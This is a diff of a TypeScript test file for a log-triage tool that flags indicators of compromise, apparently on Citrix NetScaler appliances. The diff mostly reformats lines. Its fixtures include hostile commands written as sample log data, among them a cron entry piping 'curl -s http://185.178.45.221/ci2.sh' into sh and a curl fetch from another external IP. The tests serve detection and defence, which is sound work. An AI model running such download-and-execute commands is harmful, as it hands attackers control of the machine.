@@ -4,8 +4,8 @@
  * echoing a requested path, our own and FireEye's grep commands, ordinary cron jobs).
  */
 import { describe, expect, it } from 'vitest';
-import { analyzeLogs } from '../../../src/triage/logs/index.js';
 import { commandOutputMarker } from '../../../src/triage/logs/errorlog.js';
+import { analyzeLogs } from '../../../src/triage/logs/index.js';
 import { isWhitelistedCommand, shellIoc } from '../../../src/triage/logs/shell.js';
 import type { LogAnalysis } from '../../../src/triage/types.js';
 import { MemCollection } from './helpers.js';
@@ -70,7 +70,8 @@ describe('error-log-command-output', () => {
 });
 
 describe('shell-history-ioc', () => {
-  const L = (user: string, cmd: string, ts = 'Jan 17 20:10:00') => `${ts} <local7.notice> ns bash[4242]: ${user} on (null) shell_command="${cmd}"`;
+  const L = (user: string, cmd: string, ts = 'Jan 17 20:10:00') =>
+    `${ts} <local7.notice> ns bash[4242]: ${user} on (null) shell_command="${cmd}"`;
 
   it('reports the NOTROBIN install chain from notice.log as high, with the syslog time', async () => {
     const chain =
@@ -140,7 +141,10 @@ describe('shell-history-ioc', () => {
   it('without collected_at takes the year from the access log, else leaves the time out and says so', async () => {
     const line = `${L('root', 'curl http://95.179.163.186/a')}\n`;
     const a = await run(
-      { '/var/log/bash.log': line, '/var/log/httpaccess.log': '1.2.3.4 - - [18/Jan/2021:00:00:00 +0000] "GET /vpns/a.xml HTTP/1.1" 404 1 "-" "-"\n' },
+      {
+        '/var/log/bash.log': line,
+        '/var/log/httpaccess.log': '1.2.3.4 - - [18/Jan/2021:00:00:00 +0000] "GET /vpns/a.xml HTTP/1.1" 404 1 "-" "-"\n',
+      },
       {},
     );
     expect(a.findings.find((f) => f.rule === 'shell-history-ioc')?.time).toBe('2021-01-17T20:10:00.000Z');
@@ -166,7 +170,10 @@ describe('cron-log-download', () => {
       ['cron-log-download', 4, 'high', 'compromise', '2020-01-17T20:01:00.000Z'],
       ['cron-log-download', 5, 'high', 'compromise', '2020-01-17T20:02:00.000Z'],
     ]);
-    expect(r.timeline.map((e) => e.what)).toEqual(['cron ran: /var/nstmp/.nscache/httpd', 'cron ran: curl -s http://185.178.45.221/ci2.sh | sh']);
+    expect(r.timeline.map((e) => e.what)).toEqual([
+      'cron ran: /var/nstmp/.nscache/httpd',
+      'cron ran: curl -s http://185.178.45.221/ci2.sh | sh',
+    ]);
   });
 });
 
